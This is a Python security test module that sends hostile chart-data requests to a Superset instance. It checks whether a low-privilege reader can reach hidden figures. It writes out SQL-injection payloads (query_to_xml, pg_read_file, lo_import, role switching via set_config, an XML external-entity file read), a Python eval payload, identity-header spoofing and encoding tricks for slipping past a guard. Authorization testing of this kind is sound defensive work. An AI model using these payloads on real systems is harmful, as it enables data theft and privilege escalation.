"""Hostile requests to Superset, by a reader at the REST API. Most are a question that a dashboard asks, changed in one place.

A question that is answered although something in it is of no saved chart and no filter of a dashboard counts as a success, even when what comes
back is the reader's own: what may be asked is a list. MARK stands in what is put in, so that the SQL that was run, or the answer, shows it.
"""
import base64
import copy
import hashlib
import hmac
import json
import re
import time
from urllib.parse import quote as percent

from instance import Session

MARK = "m4rk"
FREE = "'m4rk' || code"
# PostgreSQL's own words: what was put in was run.
RAN = re.compile(r"division by zero|invalid input syntax|psycopg2\.|UndefinedFunction|DETAIL:|LINE 1:")


def column(sql, label="x", **more):
    return {"label": label, "expressionType": "SQL", "sqlExpression": sql, **more}


def metric(sql, label="x", **more):
    return {"label": label, "expressionType": "SQL", "sqlExpression": sql, "hasCustomLabel": True, **more}


def xml(sql):
    return f"query_to_xml('{sql.replace(chr(39), chr(39) * 2)}', true, true, '')::text"


def exact(cell, table="mart.mesure"):
    return f"SELECT numerateur, denominateur FROM {table} WHERE {cell.by_number()}"


# --- expressions: what would be read, put where a column stands -----------------------------------------------------------------------------------
EXPRESSIONS = [
    ("query_to_xml of the internal table", lambda at: xml(exact(at.cell))),
    ("query_to_xml of the table of a reader who may", lambda at: xml(exact(at.cell, at.table))),
    ("query_to_xml of pg_roles", lambda at: xml("SELECT rolname FROM pg_roles")),
    ("query_to_xml of pg_stat_activity", lambda at: xml("SELECT usename, query FROM pg_stat_activity")),
    ("query_to_xml of the rights", lambda at: xml("SELECT * FROM registre.habilitation")),
    ("table_to_xml", lambda at: "table_to_xml('registre.publication', true, true, '')::text"),
    ("schema_to_xml", lambda at: "schema_to_xml('registre', true, true, '')::text"),
    ("ts_stat", lambda at: f"(ts_stat('SELECT to_tsvector(''simple'', numerateur || '' '' || denominateur) FROM mart.mesure WHERE {at.cell.by_number()}')).word"),
    ("ts_rewrite", lambda at: "ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''m4rk''::tsquery')::text"),
    ("a subquery", lambda at: f"({exact(at.cell).replace('numerateur, denominateur', 'numerateur')})"),
    ("a subquery of pg_roles", lambda at: "(SELECT string_agg(rolname, ',') FROM pg_roles)"),
    ("set_config('role')", lambda at: f"set_config('role', '{at.role}', false)"),
    ("set_config of the time limit", lambda at: "set_config('statement_timeout', '0', false)"),
    ("set_config of memory", lambda at: "set_config('work_mem', '8GB', false)"),
    ("pg_read_file", lambda at: "pg_read_file('postgresql.conf')"),
    ("pg_ls_dir", lambda at: "pg_ls_dir('.')"),
    ("pg_stat_file", lambda at: "pg_stat_file('postgresql.conf')::text"),
    ("lo_import", lambda at: "lo_import('/etc/hostname')"),
    ("lo_export", lambda at: "lo_export(1, '/tmp/vigie-m4rk')"),
    ("lo_get", lambda at: "lo_get(1)::text"),
    ("the lock of the runs", lambda at: "pg_try_advisory_xact_lock_shared(370794907973)::text"),
    ("pg_notify", lambda at: "pg_notify('m4rk', 'm4rk')::text"),
    ("pg_sleep", lambda at: "pg_sleep(0.1)::text"),
    ("pg_terminate_backend", lambda at: f"pg_terminate_backend({at.pid})::text"),
    ("pg_stat_get_activity", lambda at: "(pg_stat_get_activity(NULL)).usesysid::text"),
    ("pg_get_userbyid", lambda at: "(SELECT string_agg(pg_get_userbyid(i::oid), ',') FROM generate_series(16384, 20000) i)"),
    ("pg_get_userbyid, no subquery", lambda at: "pg_get_userbyid((generate_series(16384, 17500))::oid)::text"),
    ("regrole over the numbers", lambda at: "(generate_series(16384, 17500))::oid::regrole::text"),
    ("a role's name guessed", lambda at: f"'{at.role}'::regrole::text || '{MARK}'"),
    ("has_table_privilege", lambda at: f"has_table_privilege('{at.role}', 'restitution.valeur', 'SELECT')::text || '{MARK}'"),
    ("the definition of a view", lambda at: "pg_get_viewdef('restitution.valeur'::regclass)"),
    ("nextval", lambda at: "nextval('batch.batch_job_execution_seq')::text"),
    ("who one is at PostgreSQL", lambda at: f"current_user || '{MARK}' || session_user"),
    ("a setting", lambda at: f"current_setting('role') || '{MARK}'"),
    ("inet_server_addr", lambda at: f"host(inet_server_addr()) || '{MARK}'"),
    ("dblink", lambda at: "dblink('dbname=vigie', 'SELECT 1')::text"),
    ("a cast that says the value", lambda at: "(numerateur::text || 'm4rk')::int"),
    ("a cast that says the code", lambda at: "(code || 'm4rk')::int"),
    ("a large text", lambda at: f"length(repeat('{MARK}', 20000000))::text"),
    ("many rows", lambda at: f"generate_series(1, 30000)::text || '{MARK}'"),
    ("a harmless sum of letters", lambda at: FREE),
    ("a plain constant", lambda at: "'m4rk'"),
    ("a saved column in brackets", lambda at: f"(code) /* {MARK} */"),
    ("a window", lambda at: f"'{MARK}' || row_number() OVER (ORDER BY code)::text"),
    ("a column that nobody saved", lambda at: at.unsaved or "audience"),
    ("another table by union", lambda at: f"code FROM restitution.valeur UNION ALL SELECT '{MARK}' || numerateur::text"),
    ("a quoted identifier", lambda at: f"\"code\" || '{MARK}'"),
    ("Jinja in a column", lambda at: f"'{{{{ current_username() }}}}{MARK}'"),
    ("XML with an external entity", lambda at: "(xpath('/x/text()', XMLPARSE(DOCUMENT '<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;m4rk</x>')))[1]::text"),
]


# --- the places where an expression, a name or another question can be put: body, query, form data -------------------------------------------------
def put(name, change, how="accepted"):
    PLACES.append((name, change, how))


PLACES = []
put("a metric in SQL", lambda b, q, at: q.update(columns=[], orderby=[], metrics=[metric(f"MAX('{MARK}' || code)")]))
put("a metric in SQL beside the saved columns", lambda b, q, at: q.update(metrics=[metric(f"MAX('{MARK}' || code)")]))
put("a metric: a sum of figures", lambda b, q, at: q.update(columns=[], orderby=[], metrics=[
    {"expressionType": "SIMPLE", "column": {"column_name": "numerateur"}, "aggregate": "SUM", "label": MARK}]))
put("a metric under the label of a saved one", lambda b, q, at: q.update(columns=[], orderby=[], metrics=[metric(f"MAX('{MARK}')", "Valeur__yhat", optionName="metric_v")]))
put("a saved metric in another aggregate", lambda b, q, at: q.update(columns=[], orderby=[], metrics=[
    {"expressionType": "SIMPLE", "column": {"column_name": "valeur", "expression": f"'{MARK}'"}, "aggregate": "MAX", "label": MARK}]))
put("a metric that nobody saved", lambda b, q, at: q.update(columns=[], orderby=[], metrics=[at.unsaved_metric]), "metric")
put("a metric that nobody saved, by its label", lambda b, q, at: q.update(columns=[], orderby=[], metrics=[{"label": at.unsaved_metric}]), "metric")
put("a metric of counting", lambda b, q, at: q.update(columns=[], orderby=[], metrics=[{"expressionType": "SIMPLE", "column": {"column_name": "code"}, "aggregate": "COUNT_DISTINCT",
                                                                                       "label": MARK}]))
put("a column given as an object", lambda b, q, at: q.update(columns=[{"column_name": at.unsaved or "audience", "label": at.unsaved or "audience"}], orderby=[]), "column")
put("columns inside a list", lambda b, q, at: q.update(columns=[[column(FREE)]], orderby=[]))
put("the data set by its long name", lambda b, q, at: (b.update(datasource={"id": at.uuid, "type": "table"}), q.update(columns=[column(FREE)], orderby=[])))
put("the data set's number in letters", lambda b, q, at: (b.update(datasource={"id": str(at.chart.dataset), "type": "table"}), q.update(columns=[column(FREE)], orderby=[])))
put("a column under the label of a saved one", lambda b, q, at: q.update(columns=[column(FREE, "code")]))
put("a column said to be a reference", lambda b, q, at: q.update(columns=[column(FREE, "code", isColumnReference=True)]))
put("an axis of time that is an expression", lambda b, q, at: q.update(columns=[column(FREE, "debut", columnType="BASE_AXIS", timeGrain="P1M", isColumnReference=True)]))
put("an axis with another grain", lambda b, q, at: q.update(columns=[column("debut", "debut", columnType="BASE_AXIS", timeGrain="'m4rk'")]))
put("a column that nobody saved", lambda b, q, at: at.unsaved and q.update(columns=[at.unsaved], orderby=[]), "column")
put("every column of the data set", lambda b, q, at: q.update(columns=at.columns, orderby=[]), "column")
put("a filter on an expression", lambda b, q, at: q["filters"].append({"col": column(f"'{MARK}'"), "op": "==", "val": MARK}))
put("a filter on a column that no chart filters", lambda b, q, at: q["filters"].append({"col": "denominateur", "op": ">", "val": 4}), "filter")
put("a guess by filter", lambda b, q, at: q["filters"].append({"col": "numerateur", "op": "==", "val": at.reader.own.num}), "filter")
put("a filter by pattern", lambda b, q, at: q["filters"].append({"col": "code", "op": "ILIKE", "val": "%-%"}), "filter")
put("a filter of null", lambda b, q, at: q["filters"].append({"col": "statut_code", "op": "IS NOT NULL"}), "filter")
put("a value of filter with SQL", lambda b, q, at: q["filters"].append({"col": "code", "op": "IN", "val": ["x') OR ('a' = 'a"]}), "rows")
put("a value of filter that is a question", lambda b, q, at: q["filters"].append({"col": "code", "op": "==", "val": {"sqlExpression": FREE, "expressionType": "SQL", "label": "x"}}), "rows")
put("a range of time with SQL", lambda b, q, at: q["filters"].append({"col": "debut", "op": "TEMPORAL_RANGE", "val": "DATETIME('2000-01-01') : DATEADD(DATETIME('today'), 1, year)"}), "filter")
put("a range of time on another column", lambda b, q, at: q["filters"].append({"col": column("debut /* m4rk */"), "op": "TEMPORAL_RANGE", "val": "2000-01-01 : 2100-01-01"}), "filter")
put("time_range and granularity", lambda b, q, at: q.update(time_range="2000-01-01 : 2100-01-01", granularity="debut"), "granularity")
put("granularity, its old name", lambda b, q, at: q.update(time_range="2000-01-01 : 2100-01-01", granularity_sqla="debut"), "granularity")
put("extras.where", lambda b, q, at: q["extras"].update(where="'m4rk' = 'm4rk'"))
put("extras.where, false", lambda b, q, at: q["extras"].update(where="1 = 0"), "vanishes")
put("extras.where added to the saved one", lambda b, q, at: q["extras"].update(where=(q["extras"].get("where") or "(1 = 1)") + " AND ('m4rk' = 'm4rk')"))
put("extras.where that leaves its brackets", lambda b, q, at: q["extras"].update(where="(indicateur = code)) OR (('m4rk' = 'm4rk')"))
put("extras.where with a comment", lambda b, q, at: q["extras"].update(where="(indicateur = code) -- m4rk\n OR 'm4rk' = 'm4rk'"))
put("extras.where with set_config", lambda b, q, at: q["extras"].update(where=f"set_config('role', '{at.role}', false) is not null"))
put("extras.where with a division", lambda b, q, at: q["extras"].update(where="1 / (length('x') - 1) = 0"))
put("extras.where with a subquery", lambda b, q, at: q["extras"].update(where="EXISTS (SELECT 'm4rk' FROM mart.mesure)"))
put("Jinja in extras.where", lambda b, q, at: q["extras"].update(where="'m4rk' || '{{ 40000 + 4711 }}' <> ''"))
put("Jinja: who asks", lambda b, q, at: q["extras"].update(where="'m4rk' || '{{ current_username() }}{{ current_user_id() }}' <> ''"))
put("Jinja: parameters of the address", lambda b, q, at: (q["extras"].update(where="{{ url_param('m4rk') }}"), b["form_data"].update(url_params={"m4rk": "'m4rk' = 'm4rk'"}),
                                                          q.update(url_params={"m4rk": "'m4rk' = 'm4rk'"})))
put("extras.having", lambda b, q, at: (q.update(metrics=[{"label": "valeur"}]), q["extras"].update(having="MAX('m4rk') = 'm4rk'")))
put("extras.where in another dialect", lambda b, q, at: q["extras"].update(where="'m4rk' = 'm4rk'", transpile_to_dialect=True))
put("where beside extras", lambda b, q, at: q.update(where="'m4rk' = 'm4rk'"))
put("having beside extras", lambda b, q, at: q.update(having="MAX('m4rk') = 'm4rk'"))
put("extras.time_grain_sqla", lambda b, q, at: q["extras"].update(time_grain_sqla="'m4rk'"))
put("order by SQL", lambda b, q, at: q.update(orderby=[[metric("'m4rk' || MAX(code)"), True]], metrics=[]))
put("order by SQL in a column", lambda b, q, at: q.update(orderby=[[column(FREE), True]]))
put("order by a column that nobody saved", lambda b, q, at: q.update(orderby=[["ic_bas", False]]), "order")
put("a limit of series by SQL", lambda b, q, at: q.update(columns=["code"], series_columns=["code"], series_limit=5, metrics=["valeur"], orderby=[],
                                                         series_limit_metric=metric("MAX('m4rk' || code)")))
put("a limit of series, its old name", lambda b, q, at: q.update(columns=["code"], series_columns=["code"], timeseries_limit=5, series_limit=5, metrics=["valeur"], orderby=[],
                                                                timeseries_limit_metric=metric("MAX('m4rk' || code)")))
put("columns, their old name", lambda b, q, at: q.update(groupby=[column(FREE)], orderby=[]))
put("series_columns with SQL", lambda b, q, at: q.update(columns=[column(FREE)], series_columns=[column(FREE)], orderby=[], metrics=["valeur"], is_timeseries=True))
put("tooltip_contents", lambda b, q, at: (b["form_data"].update(tooltip_contents=[column(FREE), {"item_type": "column", "column_name": at.unsaved or "audience"}]),
                                          q.update(metrics=None)), "column")
put("tooltip_contents, a name alone", lambda b, q, at: b["form_data"].update(tooltip_contents=[at.unsaved or "audience"]), "column")
put("the other question of form_data", lambda b, q, at: b["form_data"].update(adhoc_filters=[{"clause": "WHERE", "expressionType": "SQL", "sqlExpression": "'m4rk' = 'm4rk'"}],
                                                                             extra_filters=[{"col": "numerateur", "op": ">", "val": 4711}]), "marked")
put("extra_form_data that adds SQL", lambda b, q, at: b["form_data"].update(extra_form_data={"adhoc_filters": [
    {"clause": "WHERE", "expressionType": "SQL", "sqlExpression": "'m4rk' = 'm4rk'"}], "columns": [FREE], "custom_form_data": {"groupby": [FREE]}}), "marked")
put("custom_form_data and custom_params", lambda b, q, at: q.update(custom_form_data={"groupby": [column(FREE)]}, custom_params={"where": "'m4rk' = 'm4rk'"}), "marked")
put("the number of another chart", lambda b, q, at: (b["form_data"].update(slice_id=at.other_chart), q.update(columns=[column(FREE)], orderby=[])))
put("no number of a chart", lambda b, q, at: (b["form_data"].pop("slice_id"), q.update(columns=[column(FREE)], orderby=[])))
put("no form_data", lambda b, q, at: (b.pop("form_data"), q.update(columns=[column(FREE)], orderby=[])))
put("form_data that is no object", lambda b, q, at: (b.update(form_data=None), q.update(columns=[column(FREE)], orderby=[])))
put("the number of a chart in capitals", lambda b, q, at: (b["form_data"].update(slice_id=str(at.chart.number) + " "), q.update(columns=[column(FREE)], orderby=[])))
put("as the list of a filter", lambda b, q, at: (b["form_data"].update(type="NATIVE_FILTER", viz_type="filter_select", native_filter_id=at.native), b["form_data"].pop("slice_id"),
                                                 q.update(columns=[column(FREE)], metrics=[], orderby=[])))
put("as the list of a filter, of figures", lambda b, q, at: (b["form_data"].update(type="NATIVE_FILTER", viz_type="filter_select", native_filter_id=at.native),
                                                             b["form_data"].pop("slice_id"), q.update(columns=["numerateur"], metrics=[], orderby=[])), "column")
put("a second question after a good one", lambda b, q, at: b["queries"].append({**copy.deepcopy(q), "columns": [column(FREE)], "orderby": []}))
put("a hundred questions", lambda b, q, at: b.update(queries=[copy.deepcopy(q) for _ in range(99)] + [{**copy.deepcopy(q), "columns": [column(FREE)], "orderby": []}]))
put("another data set inside the question", lambda b, q, at: q.update(datasource={"id": at.datasets["indicateur"], "type": "table"}, columns=["question", "source"], orderby=[],
                                                                     filters=[], extras={"where": "'m4rk' = 'm4rk'"}))
put("a data set of the kind query", lambda b, q, at: b.update(datasource={"id": 1, "type": "query"}))
put("a data set of the kind saved_query", lambda b, q, at: b.update(datasource={"id": 1, "type": "saved_query"}))
put("post-processing: more rows than there are", lambda b, q, at: q.update(post_processing=[
    {"operation": "resample", "options": {"rule": "h", "method": "ffill", "fill_value": 0}}], columns=[column("debut", "debut", columnType="BASE_AXIS", timeGrain="P1D")], orderby=[]), "post")
put("post-processing: an expression of Python", lambda b, q, at: q.update(post_processing=[{"operation": "eval", "options": {"expression": "__import__('os').getpid()"}}]), "post")
put("post-processing: a method of data frames", lambda b, q, at: q.update(post_processing=[{"operation": "to_csv", "options": {"path_or_buf": "/tmp/vigie-m4rk"}}]), "post")
put("post-processing: sum of figures", lambda b, q, at: q.update(post_processing=[{"operation": "aggregate", "options": {"groupby": [], "aggregates": {
    MARK: {"operator": "count", "column": "code"}}}}]), "post")
put("post-processing: a shift of columns", lambda b, q, at: q.update(post_processing=[{"operation": "cum", "options": {"columns": {"ic_haut": MARK}, "operator": "sum"}}]), "post")
put("an annotation of a chart", lambda b, q, at: q.update(annotation_layers=[{"annotationType": "EVENT", "sourceType": "table", "name": MARK, "value": at.other_chart, "show": True,
                                                                             "overrides": {"time_range": None, "groupby": [FREE]}}]), "annotation")
put("an annotation of a line", lambda b, q, at: q.update(annotation_layers=[{"annotationType": "TIME_SERIES", "sourceType": "line", "name": MARK, "value": at.chart.number, "show": True,
                                                                            "overrides": {"time_grain_sqla": "P1D"}}]), "annotation")
put("a native annotation", lambda b, q, at: q.update(annotation_layers=[{"annotationType": "EVENT", "sourceType": "NATIVE", "name": MARK, "value": 1, "show": True}]), "annotation")
put("a shift of time", lambda b, q, at: q.update(time_offsets=["1 year ago"], time_range="2000-01-01 : 2100-01-01", granularity="debut",
                                                columns=[column("debut", "debut", columnType="BASE_AXIS", timeGrain="P1D")], orderby=[]), "offset")
put("apply_fetch_values_predicate", lambda b, q, at: q.update(apply_fetch_values_predicate=True, columns=[column(FREE)], orderby=[]))
put("result_type samples", lambda b, q, at: b.update(result_type="samples"), "samples")
put("result_type samples in the question", lambda b, q, at: q.update(result_type="samples"), "samples")
put("result_type drill_detail", lambda b, q, at: b.update(result_type="drill_detail"), "samples")
put("result_type drill_detail in the question", lambda b, q, at: q.update(result_type="drill_detail"), "samples")
put("result_type columns", lambda b, q, at: b.update(result_type="columns"), "names")
put("result_type timegrains", lambda b, q, at: b.update(result_type="timegrains"), "names")
put("result_type query of an expression", lambda b, q, at: (b.update(result_type="query"), q.update(columns=[column(FREE)], orderby=[])), "marked")
put("result_type results of an expression", lambda b, q, at: (b.update(result_type="results"), q.update(columns=[column(FREE)], orderby=[])), "marked")
put("result_type post_processed of an expression", lambda b, q, at: (b.update(result_type="post_processed"), q.update(columns=[column(FREE)], orderby=[])))
put("CSV of an expression", lambda b, q, at: (b.update(result_format="csv"), q.update(columns=[column(FREE)], orderby=[])), "file")
put("XLSX of an expression", lambda b, q, at: (b.update(result_format="xlsx"), q.update(columns=[column(FREE)], orderby=[])), "file")
put("CSV of every column", lambda b, q, at: (b.update(result_format="csv"), q.update(columns=at.columns, orderby=[])), "file")
put("XLSX of every column", lambda b, q, at: (b.update(result_format="xlsx"), q.update(columns=at.columns, orderby=[])), "file")
put("CSV of the samples", lambda b, q, at: b.update(result_format="csv", result_type="samples"), "file")
put("counting instead of reading", lambda b, q, at: q.update(is_rowcount=True, columns=[column(FREE)], orderby=[]))
put("pages of the server", lambda b, q, at: (b["form_data"].update(server_pagination=True), q.update(row_limit=10000000, row_offset=1, columns=[column(FREE)], orderby=[])))
put("force", lambda b, q, at: (b.update(force=True), q.update(columns=[column(FREE)], orderby=[])))


class Place:
    """What the hostile questions are made of, for one reader and one hidden figure."""

    def __init__(self, instance, corpus, reader, cell, pid):
        self.instance, self.reader, self.cell, self.pid = instance, reader, cell, pid
        self.victim = cell.victim
        self.table = self.victim.table if self.victim else "mart.mesure"
        self.role = self.victim.role_sql if self.victim else "vigie_interne"
        self.chart = corpus.shows(instance, reader.own)
        if self.chart is None:
            raise SystemExit(f"no chart tells numerator and denominator of {reader.own.indicator}, {reader.own.territory}, to {reader.name}")
        self.datasets = instance.datasets
        self.columns = [name for (name,) in instance.metadata.execute("SELECT column_name FROM table_columns WHERE table_id = ? ORDER BY id", (self.chart.dataset,))]
        saved = json.dumps([chart.params for chart in corpus.charts if chart.dataset == self.chart.dataset]) + json.dumps(corpus.filters)
        self.unsaved = next((one for one in self.columns if f'"{one}"' not in saved), None)
        metrics = [name for (name,) in instance.metadata.execute("SELECT metric_name FROM sql_metrics WHERE table_id = ? ORDER BY id", (self.chart.dataset,))]
        self.unsaved_metric = next((one for one in metrics if f'"{one}"' not in saved), metrics[0] if metrics else "count")
        self.uuid = str(__import__("uuid").UUID(bytes=instance.metadata.execute("SELECT uuid FROM tables WHERE id = ?", (self.chart.dataset,)).fetchone()[0]))
        self.other_chart = next(one.number for one in corpus.charts if one.dataset != self.chart.dataset)
        self.native = next((one["id"] for many in corpus.filters.values() for one in many), "x")
        self.good = corpus.body(self.chart, reader.own)
        self.url = corpus.url(self.chart)

    def changed(self, change):
        body = copy.deepcopy(self.good)
        change(body, body["queries"][0], self)
        return body


def ran(answer):
    return RAN.search(answer.text) and "PostgreSQL answered: " + RAN.search(answer.text)[0]


def verdict(how, answer, at, names):
    """Whether a hostile question got something. A refusal is a status of 4xx, or an answer without what was put in."""
    results = answer.results()
    told = json.dumps([one.get("data") for one in results], ensure_ascii=False) if results else ""
    if at.cell.told.search(told):
        return f"told {at.cell.num}/{at.cell.den}"
    if names.search(told):
        return "told " + names.search(told)[0]
    if ran(answer):
        return ran(answer)
    if how == "file":
        wide = answer.content[:2] == b"PK" or len(answer.text.splitlines()) > 1
        return answer.status == 200 and wide and "a file"
    if answer.status != 200 or not results or any(one.get("error") for one in results):
        return None
    run = " ".join(str(one.get("query") or "") for one in results)
    rows = results[0].get("data") or []
    if how == "marked":
        return MARK in told + run and "in what was run"
    if how in ("accepted",):
        last = results[-1]
        return (MARK in told + run or not any(one.get("query") for one in results)) and f"answered, {len(last.get('data') or [])} rows"
    if how in ("column", "samples"):
        saved = set(map(str, at.good["queries"][0]["columns"]))
        return bool(rows) and set(rows[0]) - saved and f"columns {sorted(set(rows[0]) - saved)[:4]}"
    if how == "filter":
        sent = [one["col"] for one in results[0].get("applied_filters", [])] if results[0].get("applied_filters") and "col" in results[0]["applied_filters"][0] else [
            one.get("column") for one in results[0].get("applied_filters", [])]
        return f"answered; filters {sent[-2:]}"
    if how == "metric":
        return bool(rows) and f"columns {sorted(rows[0])[:4]}"
    if how == "vanishes":
        return not rows and "the condition was applied"
    if how == "rows":
        return bool(rows) and f"{len(rows)} rows"
    if how == "order":
        return "answered"
    if how == "granularity":
        return "debut" in run and ">=" in run and "applied" or (not run and "answered")
    if how == "post":
        return "answered"
    if how == "annotation":
        return bool(results[0].get("annotation_data")) and "an annotation"
    if how == "offset":
        return any("ago" in key for row in rows[:1] for key in row) and "shifted"
    return None


def expressions(at, session, report, names):
    for name, sql in EXPRESSIONS:
        body = at.changed(lambda b, q, at: (q.update(columns=[column(sql(at))], orderby=[], row_limit=20000 if "rows" in name else 1500)))
        # A second where the function itself would be slow enough.
        answer = session.ask(body, at.url)
        how = "rows" if MARK not in sql(at) else "accepted"
        report(at.reader.name, "Superset", "column: " + name, verdict(how, answer, at, names), answer.status)
    # The request of the readers' notes, to the letter: the role is changed in the condition, the column runs under it.
    body = {"datasource": {"id": at.chart.dataset, "type": "table"}, "queries": [{"columns": [column(xml(exact(at.cell, at.table)))],
            "extras": {"where": f"set_config('role','{at.role}',false) is not null"}, "row_limit": 1}]}
    answer = session.ask(body)
    report(at.reader.name, "Superset", "query_to_xml under another's role", verdict("rows", answer, at, names), answer.status)


def places(at, session, report, names):
    for name, change, how in PLACES:
        answer = session.ask(at.changed(change), at.url)
        report(at.reader.name, "Superset", name, verdict(how, answer, at, names), answer.status)


def encodings(at, session, report, names):
    """The same hostile question in other clothes, for a guard that reads the request otherwise than Superset does."""
    hostile = at.changed(lambda b, q, at: q.update(columns=[column(FREE)], orderby=[]))
    text, good = json.dumps(hostile), json.dumps(at.good)
    twice = good[:-1] + ', "queries": ' + json.dumps(hostile["queries"]) + "}"
    tries = [
        ("as a form", at.url, {"data": {"form_data": text}}),
        ("as a form with a good body in the address", "/api/v1/chart/data?form_data=" + percent(good), {"data": {"form_data": text}}),
        ("as a stream of CSV", at.url, {"data": {"form_data": json.dumps({**hostile, "result_format": "csv"}), "filename": "m4rk.csv", "expected_rows": "1000000"}}),
        ("as parts", at.url, {"files": {"form_data": (None, text)}}),
        ("in UTF-16", at.url, {"data": text.encode("utf-16"), "headers": {"Content-Type": "application/json"}}),
        ("with a charset", at.url, {"data": text.encode(), "headers": {"Content-Type": "application/json; charset=utf-7"}}),
        ("as application/vnd.api+json", at.url, {"data": text.encode(), "headers": {"Content-Type": "application/vnd.api+json"}}),
        ("with its key twice", at.url, {"data": twice.encode(), "headers": {"Content-Type": "application/json"}}),
        ("with a good key last", at.url, {"data": ('{"queries": ' + json.dumps(hostile["queries"]) + ", " + good[1:]).encode(), "headers": {"Content-Type": "application/json"}}),
        ("with a slash at the end", "/api/v1/chart/data/", {"data": text.encode(), "headers": {"Content-Type": "application/json"}}),
        ("with two slashes", "//api/v1/chart/data", {"data": text.encode(), "headers": {"Content-Type": "application/json"}}),
        ("with escaped letters", "/api/v1/chart/d%61ta", {"data": text.encode(), "headers": {"Content-Type": "application/json"}}),
        ("under another method", at.url, {"data": text.encode(), "headers": {"Content-Type": "application/json", "X-HTTP-Method-Override": "PUT"}}),
    ]
    for name, url, how in tries:
        answer = session.ask(None, url, **how)
        report(at.reader.name, "Superset", "the question " + name, verdict("file" if "CSV" in name else "accepted", answer, at, names), answer.status)
    # A program instead of a browser: a token instead of a cookie.
    paper = Session(at.instance.base)
    token = paper.call("POST", "/api/v1/security/login", json={"username": at.reader.name, "password": at.reader.password, "provider": "db"}).json().get("access_token")
    answer = paper.ask(hostile, headers={"Authorization": f"Bearer {token}"})
    report(at.reader.name, "Superset", "the question with a token", verdict("accepted", answer, at, names), answer.status)
    # Who asks, said by a header.
    victim = next(one for one in at.instance.readers if one is not at.reader)
    for header in ("X-Forwarded-User", "Remote-User", "X-Remote-User", "X-Username"):
        answer = paper.call("GET", "/api/v1/me/", headers={header: victim.name})
        report(at.reader.name, "Superset", f"another's name in {header}", answer.status == 200 and "in", answer.status)


def others(at, session, report, names, corpus):
    """Good questions about what is not the reader's, in the words of the dashboards."""
    for cell in at.reader.hidden():
        kind = "masked" if cell is at.reader.masked else "out of reach"
        chart = corpus.shows(at.instance, cell)
        if chart is None:
            continue
        for form in ("json", "csv"):
            body = corpus.body(chart, cell)
            body["result_format"] = form
            answer = session.ask(body, corpus.url(chart), timeout=20)
            report(at.reader.name, "Superset", f"a dashboard's own question on a figure {kind}, {form}", answer.status == 200 and cell.told.search(answer.text)
                   and f"told {cell.num}/{cell.den}", answer.status)
        # The same as somebody who may: what is kept of the answer must not be served to another. Both orders of the day, without force.
        if cell.victim is not None:
            body = corpus.body(chart, cell)
            first = cell.victim.session.ask(body, corpus.url(chart), timeout=20)
            if not cell.told.search(first.text):
                report.broken(f"{cell.victim.name} does not read {cell.num}/{cell.den} of {cell.territory}, which is its own: {first.status} {first.text[:200]}")
            answer = session.ask(body, corpus.url(chart), timeout=20)
            report(at.reader.name, "Superset", f"what was kept for {cell.victim.role}", cell.told.search(answer.text) and f"told {cell.num}/{cell.den}", answer.status)
            key = next((one.get("cache_key") for one in first.results()), None)
            for path in (f"/api/v1/chart/data/{key}", f"/superset/explore_json/data/{key}"):
                answer = session.call("GET", path)
                report(at.reader.name, "Superset", "another's answer by its key, " + path.rsplit("/", 1)[0], answer.status == 200 and
                       (cell.told.search(answer.text) or answer.data()) and "served", answer.status)
    if at.reader.role not in ("ars", "facs", "dac"):
        for name in ("flux", "rejet"):
            for chart in [one for one in corpus.charts if corpus.dataset_name[one.dataset] == name][:1]:
                answer = session.ask(corpus.body(chart, at.reader.own), corpus.url(chart))
                report(at.reader.name, "Superset", f"the quality of files: {name}", bool(answer.data()) and "rows", answer.status)
    if at.reader.role in ("public", "etablissement"):
        for chart in [one for one in corpus.charts if corpus.dataset_name[one.dataset] == "entonnoir"][:1]:
            answer = session.ask(corpus.body(chart, at.reader.own), corpus.url(chart))
            report(at.reader.name, "Superset", "the funnel", bool([row for row in answer.data() or [] if any(isinstance(value, (int, float)) and value for key, value in row.items()
                                                                                                            if "effectif" in key)]) and "rows", answer.status)


# --- doors: what a reader has no use for. A door is shut when it says 401, 403, 404 or 405, or sends to the sign-in ---------------------------------
def doors(at):
    d, c, b = at.chart.dataset, at.chart.number, at.chart.dashboard
    body, expression = at.good, {"expression": FREE, "expression_type": "column"}
    return [
        ("GET", "/api/v1/database/"), ("GET", "/api/v1/database/1"), ("GET", "/api/v1/database/1/connection"), ("GET", "/api/v1/database/1/schemas/"),
        ("GET", "/api/v1/database/1/catalogs/"), ("GET", "/api/v1/database/1/tables/?q=(schema_name:mart)"), ("GET", "/api/v1/database/1/table_metadata/?name=mesure&schema=mart"),
        ("GET", "/api/v1/database/1/table_metadata/extra/?name=mesure&schema=mart"), ("GET", "/api/v1/database/1/select_star/mesure/mart/"),
        ("GET", "/api/v1/database/1/function_names/"), ("GET", "/api/v1/database/1/related_objects/"), ("GET", "/api/v1/database/available/"),
        ("GET", "/api/v1/database/export/?q=!(1)"), ("POST", "/api/v1/database/test_connection/", {"database_name": "Vigie", "sqlalchemy_uri": "postgresql+psycopg2://x:y@127.0.0.1/vigie"}),
        ("POST", "/api/v1/database/", {"database_name": MARK, "sqlalchemy_uri": "postgresql+psycopg2://vigie:vigie@127.0.0.1/vigie"}), ("PUT", "/api/v1/database/1", {"expose_in_sqllab": True}),
        ("POST", "/api/v1/database/1/validate_sql/", {"sql": "SELECT 1", "schema": "mart"}), ("POST", "/api/v1/database/1/sync_permissions/", {}),
        ("POST", "/api/v1/sqllab/execute/", {"database_id": 1, "sql": "SELECT * FROM mart.mesure", "schema": "mart"}), ("POST", "/api/v1/sqllab/estimate/", {"database_id": 1, "sql": "SELECT 1"}),
        ("POST", "/api/v1/sqllab/export_streaming/", {"client_id": MARK}), ("GET", "/api/v1/sqllab/results/?q=(key:x)"), ("GET", "/api/v1/sqllab/"), ("GET", "/api/v1/sqllab/export/x/"),
        ("POST", "/api/v1/sqllab/format_sql/", {"sql": "SELECT 1"}), ("POST", "/api/v1/sqllab/permalink", {"sql": "SELECT 1"}), ("GET", "/sqllab/"), ("GET", "/superset/sqllab/history/"),
        ("GET", "/api/v1/query/"), ("GET", "/api/v1/query/1"), ("GET", "/api/v1/query/updated_since?q=(last_updated_ms:0)"), ("POST", "/api/v1/query/", {"query_context": json.dumps(body)}),
        ("GET", "/api/v1/query/distinct/status"), ("GET", "/api/v1/query/related/user"), ("GET", "/api/v1/saved_query/"), ("POST", "/api/v1/saved_query/", {"db_id": 1, "sql": "SELECT 1", "label": MARK}),
